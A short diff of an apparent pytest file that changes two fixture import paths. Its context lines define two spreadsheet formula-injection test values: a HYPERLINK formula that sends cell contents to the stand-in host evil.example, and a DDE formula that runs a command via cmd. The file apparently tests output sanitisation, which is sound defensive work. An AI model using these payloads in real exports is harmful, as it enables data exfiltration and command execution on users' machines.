@@ -17,8 +17,8 @@ import pytest
 
 from pipelines.cli import main
 from routes import safe_output, warehouse
-from tests.deconfliction_fixture import IDENTIFIERS, build_warehouse
-from tests.warehouse_fixture import make_small_warehouse
+from tests.support.deconfliction_fixture import IDENTIFIERS, build_warehouse
+from tests.support.warehouse_fixture import make_small_warehouse
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
 DDE = "=cmd|' /C calc'!A0"
